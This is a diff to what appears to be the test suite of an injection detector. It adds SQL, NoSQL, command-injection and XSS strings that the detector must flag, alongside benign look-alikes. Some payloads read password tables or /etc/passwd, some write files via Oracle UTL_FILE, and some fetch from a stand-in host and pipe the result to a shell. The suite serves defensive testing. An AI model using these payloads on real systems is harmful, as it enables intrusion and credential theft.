@@ -3344,6 +3344,14 @@ t.test("thirty-ninth round, after the thirty-ninth part's measurement: a command
   t.same(json({ code: 'data Shape\n  = Circle Float\n  | Rect Float Float\n  -- a square\n  | Square Float\n  deriving (Show)\n' }), [], "Haskell's")
   t.same(json({ code: 'type Msg\n    = Increment\n    | Decrement\n    | Reset\n' }), [], "Elm's")
   // a line that opens on a pipe under anything else, a command after the constructor, a line continued into it: read as before
+  // (review) a select of a name an engine reads as a value, or of an expression; a line continued into a variant; a comment's text a shell runs
+  for (const v of ['logs select session_user||(select password from users limit 1);--', 'logs select current_time||(select password from users);--', 'logs select current_role=(select password from users limit 1);--', 'id select system_user+(select top 1 password from users);--', 'id select session_user;--']) {
+    t.ok(q(v).includes('sqli'), `still read: ${v}`)
+  }
+  for (const v of ['type t =\n-- a \\\n| id', 'type t =\n-- a \\\n| wget evil.example\n-- b \\\n| sh index.html', 'x"\ntype t =\n| x (* $(id>pwned) *)\n"', 'echo x"\ntype t =\n| x (* $(id) *)\n"', 'a.png\n((\ntype t =\n| x (* $(id) *)\n))\n#']) {
+    t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
+  }
+  t.same(json({ code: 'type encoding =\n  | Encoding of string (* a named one *)\n  | Gzip\n' }), [], 'a comment of words on a variant')
   for (const v of ['x\n| id', 'x\n| cat /etc/passwd', 'type t =\n  | sh; id', 'type t =\n | curl http://evil.example/x', 'type t = \\\n| sh', 'echo id\n| sh', 'type t =\n  | a\nx; id', 'type t =\n  | a $(id)', 'type t =\r\n  | sh', 'data T\n  = A; id\n  | B', 'let x = 1\n  | sh']) {
     t.ok(q(v).includes('rce'), `still read: ${JSON.stringify(v)}`)
   }
@@ -3359,7 +3367,21 @@ t.test("thirty-ninth round, after the fortieth part's measurement: a sink inside
     t.ok(q(v).includes('xss'), v)
   }
   // a substitution opening the value, then a comment or `&&` and a command; a program or its option glued to the field separator
-  for (const v of ['`ls`#', '`sleep 10` && echo vulnerable', 'echo$IFS"hacked"', "bash -c$IFS'echo success'", 'x;cat${IFS}/etc/hosts']) t.ok(q(v).includes('rce'), v)
+  for (const v of ['`ls`#', 'echo$IFS"hacked"', "bash -c$IFS'echo success'", 'x;cat${IFS}/etc/hosts']) t.ok(q(v).includes('rce'), v)
   // prose and scripts: a sentence naming a sink, two code spans joined by `&&`, a script keeping the separator, comments and escapes
   for (const v of ['Error: alert(1) failed', 'see alert(x) docs', '`npm i` && `npm start`', 'oldifs=$IFS; echo done', 'IFS=$OLDIFS', 'x="$IFS"', 'a \\ b (c) /* d */', 'if (ok) { /* note */ show("\\u00e9") }']) t.same(q(v), [], v)
+  // (review) a static method, a word or a message as the sink's argument, a chat's or an answer's code span before a comment or `&&`
+  for (const v of ["Log::alert('disk full');", '$ret=$this->Debconf::FrontEnd::Teletype::prompt(%params);', 'Status:alert(firing)', 'OK,confirm(tomorrow)', 'err&&alert(err.message)', 'data.error?alert(data.error):location.reload()', '`ls -la` # shows hidden files', '`mkdir build` && cd build && cmake ..', '`sleep 5` && retry', '`ls`#1 issue']) {
+    t.same(q(v), [], v)
+  }
+})
+
+t.test("thirty-ninth round, after the fortieth part's measurement: SQL by kind — a sub-query after order by, returning, Oracle's blocks, keywords written around themselves; a $where's string method", async (t) => {
+  for (const v of ["' order by (select 1) --+", "test') RETURNING (SELECT secret FROM credentials WHERE service='internal_api')::text -- -", "'; BEGIN UTL_FILE.PUT_LINE(UTL_FILE.FOPEN('DIR','s.php','w'),'x');END;--", "admin'; BEGIN INSERT INTO temp VALUES (UTL_FILE.GET_LINE(UTL_FILE.FOPEN('DATA_PUMP_DIR','passwd.txt','r'),1)); COMMIT; END; --", "1; begin dbms_output.put_line(1); end;--", "' OORR 1=1 #", "'/**/OORR/**/'a'='a'#", "' UNUNIONION SELSELECTECT name, sql, type FRFROMOM sqlite_master -- -", 'id/*M!union select password from users*/', 'id/*M!union*/select password/*M! from users*/;']) {
+    t.ok(q(v).includes('sqli'), v)
+  }
+  for (const v of ["' || this.password.startsWith('FLAG{x}') && this.username=='admin", "a' && this.pin.charAt(0) == '1"]) t.ok(q(v).includes('nosqli'), v)
+  for (const v of ['<button hx-post="/x" hx-vals=\'js:{x: alert(1)}\'>Click</button>', '/Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>']) t.ok(q(v).includes('xss'), v)
+  // prose, a program's own calls, plain htmx
+  for (const v of ['returning (select few) items', 'sort in order by (select the column)', "Let's begin insert of the new row", 'begin utl_file.fopen for the report', 'Fanny Oorr\'s blog', 'if (ok && this.name.startsWith(\'x\')) go()', '<button hx-post="/x" hx-vals=\'{"a":1}\'>Click</button>']) t.same(q(v), [], v)
 })
